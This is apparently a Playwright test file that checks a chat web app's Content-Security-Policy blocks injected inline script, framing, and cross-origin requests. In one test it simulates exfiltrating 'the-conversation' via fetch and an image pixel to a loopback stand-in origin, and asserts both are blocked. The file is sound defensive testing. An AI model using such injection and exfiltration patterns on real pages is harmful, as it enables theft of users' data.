import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchChromium } from './chromium.ts';
import { TIMEOUTS } from '../timeouts.ts';

// Issue 28, N3: the page's Content-Security-Policy blocks what gets past the sanitiser, and the page
// still works under it. Every "foreign" address here is another loopback origin: a policy that failed
// to block would still reach nothing outside this machine.

interface Violation {
  directive: string;
  blocked: string;
}

describe('the Content-Security-Policy in headless Chromium', () => {
  let browser: Browser;
  let page: Page;
  let other: Server;
  let otherUrl: string;
  let otherHits = 0;
  const pageErrors: string[] = [];

  beforeAll(async () => {
    other = createServer((_req, res) => {
      otherHits++;
      res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
      res.end('collected');
    });
    await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
    otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
    browser = await launchChromium({ webgpu: false });
    page = await browser.newPage();
    page.on('pageerror', (error) => pageErrors.push(error.message));
    await page.addInitScript(() => {
      const seen: Violation[] = [];
      (window as unknown as { __violations: Violation[] }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
    });
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise<void>((done) => other.close(() => done()));
  });

  const violations = () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

  it('is sent with the page, and the page runs under it without a single violation: it renders and loads tools.js', async () => {
    const response = await page.goto(inject('appUrl'));
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(response?.headers()['cross-origin-embedder-policy']).toBe('credentialless');
    await expect.poll(() => page.locator('nexus-app h1').textContent()).toBe('Nexus Chat');
    await page.getByTestId('open-tools').click();
    await page.getByTestId('tools').waitFor({ timeout: TIMEOUTS.works });
    expect(await page.getByTestId('tools').locator('code').allTextContents()).toEqual(
      expect.arrayContaining(['current_datetime', 'calculator', 'get_weather']),
    );
    expect(await violations()).toEqual([]);
    expect(pageErrors).toEqual([]);
  });

  it('blocks injected inline script, an image and a fetch to another origin, and a <base>; the page keeps working', async () => {
    const outcome = await page.evaluate(async (foreign) => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = true';
      document.body.append(script);
      let fetchBlocked = false;
      try {
        await fetch(`${foreign}steal?d=the-conversation`);
      } catch {
        fetchBlocked = true;
      }
      const image = new Image();
      const imageDone = new Promise((done) => {
        image.onerror = () => done('blocked');
        image.onload = () => done('loaded');
      });
      image.src = `${foreign}pixel.png?d=the-conversation`;
      const base = document.createElement('base');
      base.href = foreign;
      document.head.append(base);
      const baseApplied = document.baseURI.startsWith(foreign);
      base.remove();
      return { pwned: (window as unknown as { __pwned?: boolean }).__pwned === true, fetchBlocked, image: await imageDone, baseApplied };
    }, otherUrl);
    // (eval cannot be tried from here: DevTools-evaluated code is exempt; the policy has no 'unsafe-eval', see page-policy.test.ts.)
    expect(outcome).toEqual({ pwned: false, fetchBlocked: true, image: 'blocked', baseApplied: false });
    await expect
      .poll(async () => (await violations()).map((v) => v.directive).sort())
      .toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem']));
    expect(otherHits).toBe(0);
    // Still working: the settings drawer opens and answers.
    await page.getByTestId('open-settings').click();
    await expect.poll(() => page.getByTestId('hub-url').isVisible()).toBe(true);
  });

  it('may not be framed by another page', async () => {
    const framer = await browser.newPage();
    await framer.setContent(`<iframe id="app" src="${inject('appUrl')}" width="800" height="600"></iframe>`);
    // The framing page's load event waits for its frame, loaded or refused.
    await framer.waitForLoadState('load');
    const frame = framer.frames().find((f) => f !== framer.mainFrame());
    expect(frame).toBeDefined();
    expect(
      await frame
        ?.locator('nexus-app')
        .count()
        .catch(() => 0),
    ).toBe(0);
    expect(frame?.url()).not.toBe(inject('appUrl'));
    await framer.close();
  });
});
